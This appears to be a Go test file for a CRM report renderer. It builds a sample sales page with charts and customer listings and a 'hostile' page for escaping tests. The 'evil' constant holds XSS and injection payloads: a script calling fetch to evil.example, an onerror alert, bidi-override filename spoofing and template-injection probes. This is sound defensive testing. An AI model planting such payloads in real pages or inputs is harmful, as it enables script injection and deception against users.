package page

import (
	"fmt"
	"math"
	"strings"
	"testing"
	"time"

	"crm/internal/crm"
	"crm/internal/render"
	"crm/internal/render/chart"
)

func amount(v float64) chart.Value {
	s := fmt.Sprintf("%.0f", v)
	for i := len(s) - 3; i > 0; i -= 3 {
		s = s[:i] + "," + s[i:]
	}
	return chart.Value{Value: v, Text: s + " EUR"}
}

func amounts(list ...float64) []chart.Value {
	out := make([]chart.Value, len(list))
	for i, v := range list {
		out[i] = amount(v)
	}
	return out
}

func months(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC).AddDate(0, i, 0).Format("2006-01")
	}
	return out
}

func money(t testing.TB, s string) crm.Money {
	t.Helper()
	m, err := crm.ParseMoney(s)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// evil is what a customer may be called.
const evil = "</title></style></script><script>fetch('http://evil.example')</script><img src=x onerror=alert(1)>\" onmouseover=\"alert(2) \u202egpj.exe\u2066 \x1b[31m\x00{{.}} ${7*7}"

// book is a page as a small firm has it.
func book(t testing.TB) *Page {
	funnel := &chart.Funnel{}
	stages := &render.Listing{Columns: []render.Column{{Name: "stage", Title: "STAGE"}, {Name: "deals", Title: "DEALS", Right: true}, {Name: "total", Title: "TOTAL", Right: true}}}
	for i, s := range []string{"Lead", "Qualified", "Proposal", "Negotiation", "Won"} {
		n := []int{42, 31, 18, 9, 6}[i]
		note := ""
		if i < 4 {
			note = fmt.Sprintf("%d %% go on", 74-6*i)
		}
		funnel.Steps = append(funnel.Steps, chart.Step{Label: s, Value: chart.Value{Value: float64(n), Text: fmt.Sprint(n)}, Note: note})
		stages.Rows = append(stages.Rows, render.Row{render.Text(s), render.Int(n), render.Money(money(t, fmt.Sprintf("%d.00 EUR", n*4250))).Shown(amount(float64(n * 4250)).Text)})
	}
	week := &chart.Heat{Rows: []string{"call", "email", "meeting", "visit"}}
	for c := range 26 {
		week.Columns = append(week.Columns, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, 7*c).Format("2006-01-02"))
	}
	for r := range week.Rows {
		var row []chart.Value
		for c := range 26 {
			v := math.Round(math.Abs(math.Sin(float64(c*(r+2))/5)) * float64(12-2*r))
			row = append(row, chart.Value{Value: v, Text: fmt.Sprint(v)})
		}
		week.Cells = append(week.Cells, row)
	}
	cohort := &chart.Heat{Rows: months(8), Columns: []string{"0", "1", "2", "3", "4", "5", "6", "7"}}
	for r := range cohort.Rows {
		var row []chart.Value
		for c := range 8 - r {
			v := math.Round(100 / (1 + 0.3*float64(c)))
			row = append(row, chart.Value{Value: v, Text: fmt.Sprintf("%.0f %%", v)})
		}
		cohort.Cells = append(cohort.Cells, row)
	}
	stale := &render.Listing{Columns: []render.Column{
		{Name: "id", Title: "ID"}, {Name: "name", Title: "NAME"}, {Name: "stage", Title: "STAGE"}, {Name: "owner", Title: "OWNER"}, {Name: "last", Title: "LAST"}, {Name: "days", Title: "DAYS", Right: true}, {Name: "open", Title: "OPEN", Right: true}}}
	for i, n := range []string{"Acme GmbH", "Zürich Steelworks AG", "Bäckerei Öhlmann", "日本語株式会社", "شركة الاختبار", "Young & Partners <Legal>", "Delta 10", "delta 9", "O'Neill", "Émile & Fils", "Nordlicht e.K.", "Fjord Consulting AS", "A rather long name of a firm with many owners, their sons and daughters KG"} {
		days := render.Int(30 + i*i*7%90)
		if i == 3 {
			days = render.Cell{}
		}
		stale.Rows = append(stale.Rows, render.Row{render.Text(fmt.Sprintf("7k3f9q2m%dx", i)), render.Text(n), render.Text([]string{"lead", "prospect", "customer"}[i%3]), render.Text([]string{"anna", "ben", "chris"}[i%3]),
			render.Text(fmt.Sprintf("2026-0%d-1%d", 1+i%9, i%9)), days.In(render.Red), render.Money(money(t, fmt.Sprintf("%d.50 EUR", (i*7919)%30000))).Shown(amount(float64((i * 7919) % 30000)).Text)})
	}
	revenue := &chart.Bars{Upright: true, Labels: months(12), Series: []chart.Series{{Values: amounts(12000, 9500, 15250, 4000, 0, 8000, 22000, 17500, 16250, 9000, 31000, 28500)}}}
	forecast := &chart.Lines{Labels: months(6), Series: []chart.Series{{Name: "expected", Values: amounts(5000, 11000, 18500, 24000, 27500, 33000)}},
		Band: &chart.Band{Name: "8 of 10 times", Low: amounts(3000, 7000, 12500, 16000, 18500, 21000), High: amounts(7000, 16000, 25500, 33000, 39500, 47000)}}
	owners := &chart.Bars{Labels: []string{"anna", "ben", "chris"}, Series: []chart.Series{{Name: "open", Values: amounts(42000, 15500, 8000)}, {Name: "won", Values: amounts(12000, 30500, 0)}}}
	return &Page{
		Title: "The book of Nordlicht Consulting",
		About: []string{"As of 2026-11-28", "Only customers with owner:me stage:customer"},
		Key:   []render.KeyFigure{{Label: "Open deals", Text: "182400.00 EUR", Note: "in 42 deals"}, {Label: "Expected by March", Text: "33,000 EUR", Note: "8 of 10 times 21,000 to 47,000"}, {Label: "Won this year", Text: "172500.00 EUR + 27500.00 GBP", Note: "in 19 deals, 61 % won"}, {Label: "Waiting for us", Text: "13 customers", Note: "the longest for 119 days"}},
		Sheets: []*render.Sheet{
			{Name: "pipeline", Title: "Pipeline", About: []string{"Deals that are open now"}, Sections: []render.Section{
				{Name: "stages", Title: "By stage", Note: "How many deals reached each stage.", Chart: funnel, Listing: stages, Aside: true},
				{Name: "owners", Title: "By owner", Fields: []render.Field{{Label: "Largest", Text: "Plant audit 2027"}, {Label: "Oldest", Text: "214 days"}}, Chart: owners}}},
			{Name: "forecast", Title: "Forecast", About: []string{"2026-01 to 2026-06, from the chances of the stages"}, Sections: []render.Section{{Name: "months", Title: "By month", Chart: forecast}, {Name: "revenue", Title: "Revenue by month", Chart: revenue}}},
			{Name: "activity", Title: "Activity", Sections: []render.Section{{Name: "weeks", Title: "By kind and week", Chart: week}, {Name: "cohorts", Title: "Who buys again", Note: "Of the customers of a month, how many bought again so many months later.", Chart: cohort}}},
			{Name: "stale", Title: "Untouched the longest", Sections: []render.Section{{Name: "stale", Title: "Who waits", Listing: stale}}},
		},
	}
}

// hostile is a page whose every text is what an attacker wrote.
func hostile() *Page {
	long := strings.Repeat("A", 10_000)
	l := &render.Listing{Columns: []render.Column{{Name: evil, Title: evil}, {Name: "n" + evil, Title: long, Right: true}}, Empty: evil}
	for _, s := range []string{evil, long, strings.Repeat("wide 日本語 ", 1500), "\u202e\u2066\u200b", "&amp;&lt;script&gt;"} {
		l.Rows = append(l.Rows, render.Row{render.Text(s), render.Text(s).Shown(evil)}, render.Row{render.List([]string{s, evil})})
	}
	v := []chart.Value{{Value: 1, Text: evil}, {Value: 2, Text: long}}
	labels := []string{evil, long}
	sections := []render.Section{
		{Name: evil, Title: evil, Note: evil, Fields: []render.Field{{Label: evil, Text: evil + "\n" + long}, {Label: long, Text: long}}, Chart: &chart.Bars{Labels: labels, Series: []chart.Series{{Name: evil, Values: v}, {Name: long, Values: v}}}, Listing: l, Aside: true},
		{Title: long, Note: long, Chart: &chart.Lines{Labels: labels, Series: []chart.Series{{Name: evil, Values: v}}, Band: &chart.Band{Name: evil, Low: v, High: v}}, Listing: l},
		{Chart: &chart.Funnel{Steps: []chart.Step{{Label: evil, Value: v[0], Note: evil}, {Label: long, Value: v[1], Note: long}}}},
		{Title: evil, Chart: &chart.Heat{Rows: labels, Columns: labels, Cells: [][]chart.Value{v, v}}, Listing: &render.Listing{Columns: l.Columns, Empty: evil}},
	}
	return &Page{Title: evil, About: []string{evil, long}, Key: []render.KeyFigure{{Label: evil, Text: evil, Note: evil}, {Label: long, Text: long, Note: long}}, Sheets: []*render.Sheet{
		{Name: evil, Title: evil, About: []string{evil, long}, Sections: sections}, {Title: long, Sections: sections},
	}}
}
